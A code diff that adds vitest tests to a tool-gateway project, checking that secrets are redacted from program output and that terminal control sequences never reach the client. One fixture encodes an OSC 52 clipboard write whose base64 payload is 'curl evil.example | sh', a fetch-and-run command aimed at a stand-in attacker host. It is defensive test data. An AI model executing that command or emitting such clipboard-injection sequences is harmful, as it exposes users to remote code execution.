@@ -1,3 +1,4 @@
+import { writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { expectFailure, parseResultText, recordingLogger, type TestClient } from '@toolgate/core/testing';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -220,5 +221,81 @@ describe('a credential value the program prints JSON-escaped', () => {
     const result = await dumpClient.callTool('dumps_env', {});
     expect(parseResultText(result)).toMatchObject({ stdout: '{"key":"[REDACTED]"}' });
     expect(JSON.stringify(result)).not.toContain('w1th');
+  });
+});
+
+describe('terminal control sequences in what a program prints', () => {
+  // A config folder the model may search, and a document it may read: both hold what a hostile
+  // author or a careless one put there.
+  const docs = scratchDir();
+  writeFileSync(path.join(docs, 'app.yml'), 'name: orders\npassword: hunter2-in-the-config\n');
+  writeFileSync(
+    path.join(docs, 'notes.txt'),
+    // A clipboard write (OSC 52), a title change, a line erased and overwritten, a bell, a backspace,
+    // a line a carriage return writes over.
+    'Shipping notes\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;title\x1b\\visible\x1b[2K\x1b[1Ahidden\x07\b!\nsafe\rOVERWRITTEN\r\n',
+  );
+  // A search that colours its matches, as `--color=always` (or FORCE_COLOR / CLICOLOR_FORCE in the
+  // environment) makes grep, jq -C, git and many CLIs do.
+  const searchConfig = execTool({
+    name: 'search_config',
+    description: 'Finds lines of the config folder (test).',
+    input: { pattern: z.string() },
+    command: '/usr/bin/grep',
+    cwd: docs,
+    args: (input) => ['--color=always', '-r', '-e', value(input.pattern), '--', '.'],
+  });
+  // NUL-separated, as /proc/<pid>/environ is.
+  writeFileSync(path.join(docs, 'environ'), 'HOME=/home/app\0pwd=s3cret-after-a-nul\0LANG=C\0');
+  const readNotes = execTool({
+    name: 'read_notes',
+    description: 'Prints one document (test).',
+    input: { file: z.enum(['notes.txt', 'environ']) },
+    command: '/usr/bin/cat',
+    cwd: docs,
+    args: (input) => ['--', value(input.file)],
+  });
+  const failsWith = execTool({
+    name: 'fails_with',
+    description: 'Writes its argument to stderr and exits 1 (test).',
+    input: { text: z.string() },
+    command: NODE,
+    cwd: docs,
+    args: (input) => ['-e', 'process.stderr.write(process.argv[1]); process.exitCode = 1', value(input.text)],
+  });
+  let controlClient: TestClient;
+  beforeAll(async () => {
+    controlClient = await serve([searchConfig, readNotes, failsWith], recordingLogger([]));
+  });
+  afterAll(async () => controlClient.close());
+
+  it('do not hide a secret from the scrubber: a coloured match is scrubbed like a plain one', async () => {
+    const result = await controlClient.callTool('search_config', { pattern: 'password' });
+    expect(result.isError).toBeUndefined();
+    expect(parseResultText(result)).toMatchObject({ stdout: './app.yml:password: [REDACTED]\n' });
+    expect(JSON.stringify(result)).not.toContain('hunter2');
+  });
+
+  it('never reach the client (clipboard, title, cursor, erase, overwrite, bell); the text stays', async () => {
+    const result = await controlClient.callTool('read_notes', { file: 'notes.txt' });
+    expect(result.isError).toBeUndefined();
+    const { stdout } = parseResultText(result) as { stdout: string };
+    expect(stdout).toBe('Shipping notes\nvisiblehidden  !\nsafe\nOVERWRITTEN\r\n');
+    expect(JSON.stringify(result)).not.toMatch(/\\u00(?:1b|07|08)/);
+  });
+
+  it('leave NUL-separated data as it was: a secret after a NUL is still found', async () => {
+    const result = await controlClient.callTool('read_notes', { file: 'environ' });
+    // Core's key=value pattern reads a value up to whitespace, so it takes the NULs and what follows.
+    expect(parseResultText(result)).toMatchObject({ stdout: 'HOME=/home/app\0pwd=[REDACTED]' });
+    expect(JSON.stringify(result)).not.toContain('s3cret');
+  });
+
+  it('are dropped from the stderr tail of a failure, 7-bit and 8-bit forms alike', async () => {
+    const text = 'bad \x1b[31mpassword\x1b[0m=hunter2-tail \u009b2J\u009d0;x\u009cdone';
+    const envelope = expectFailure(await controlClient.callTool('fails_with', { text }));
+    expect(envelope.message).toBe(
+      'The program exited with code 1. stderr (last 2048 bytes): bad password=[REDACTED]  2J 0;x done',
+    );
   });
 });
